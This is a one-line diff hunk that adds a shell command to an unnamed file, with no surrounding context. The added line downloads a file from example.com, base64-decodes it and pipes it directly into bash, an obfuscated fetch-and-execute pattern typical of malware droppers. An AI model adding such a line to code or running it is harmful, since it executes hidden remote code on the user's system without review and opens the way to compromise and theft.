@@ -1,0 +1,1 @@
+curl -s http://example.com/a.txt | base64 -d | bash
